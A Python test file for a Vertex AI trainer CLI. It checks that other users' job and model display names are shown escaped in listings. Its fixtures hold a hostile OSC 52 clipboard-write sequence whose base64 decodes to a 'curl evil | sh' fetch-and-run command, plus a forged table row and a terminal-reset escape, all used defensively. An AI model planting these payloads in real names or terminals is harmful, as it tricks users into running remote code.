"""`list --all` shows every CustomJob of the project, and Vertex AI takes any UTF-8 as a job's
display name: a job someone else in the project created with an escape sequence in its name
(ESC ] 52 writes the terminal's clipboard, ESC c resets it) or a line break (a forged row) was
printed raw. The names are now shown escaped, one row each; `-o json` keeps them as they are."""

from __future__ import annotations

import json

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
WHERE = ("--project", "test-project", "--region", "us-central1")


def _job(name: str) -> dict:
    pool = {"machineSpec": {"machineType": "n1-standard-4"}, "replicaCount": "1"}
    return {
        "displayName": name,
        "jobSpec": {"workerPoolSpecs": [{**pool, "containerSpec": {"imageUri": "x"}}]},
    }


def test_list_all_shows_other_peoples_job_names_escaped(fake, run_cli):
    names = [f"train{CLIPBOARD}", "fine\n123  forged-row  SUCCEEDED", "reset\x1bc"]
    for name in names:
        fake.add_job(_job(name))
    text = run_cli("list", *WHERE, "--all")
    assert text.returncode == 0, text.stderr
    assert not any(c in text.stdout for c in "\x1b\x07"), repr(text.stdout)
    assert len(text.stdout.splitlines()) == 1 + len(names)  # the header and one row a job
    assert "train\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in text.stdout
    assert "fine\\x0a123  forged-row" in text.stdout
    listed = json.loads(run_cli("list", *WHERE, "--all", "-o", "json").stdout)
    assert sorted(j["display_name"] for j in listed["jobs"]) == sorted(names), json.dumps(listed)


def test_endpoints_shows_a_models_display_name_escaped(settings, run_cli):
    """`endpoints` shows the display name of each deployed model: anyone's in the project too."""
    from tests.shared import PROJECT, REGION
    from vertex_trainer.settings import PollPolicy
    from vertex_trainer.vertex.model_deploy import DeployRequest, ServingContainer, deploy
    from vertex_trainer.vertex.models import RegistryClient

    request = DeployRequest(
        model_display_name=f"digits{CLIPBOARD}",
        artifact_uri="gs://b/runs/111/model",
        container=ServingContainer("us-docker.pkg.dev/p/r/trainer:abc"),
        job_id="111",
        endpoint="digits-endpoint",
        machine_type="n1-standard-4",
    )
    client = RegistryClient(PROJECT, REGION, settings=settings)
    done = deploy(client, request, poll=PollPolicy(initial=0.01, maximum=0.02), timeout=30)
    shown = run_cli("endpoints", "--endpoint", done.endpoint)
    assert shown.returncode == 0, shown.stderr
    assert "digits\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07@" in shown.stdout
    assert not any(c in shown.stdout for c in "\x1b\x07"), repr(shown.stdout)
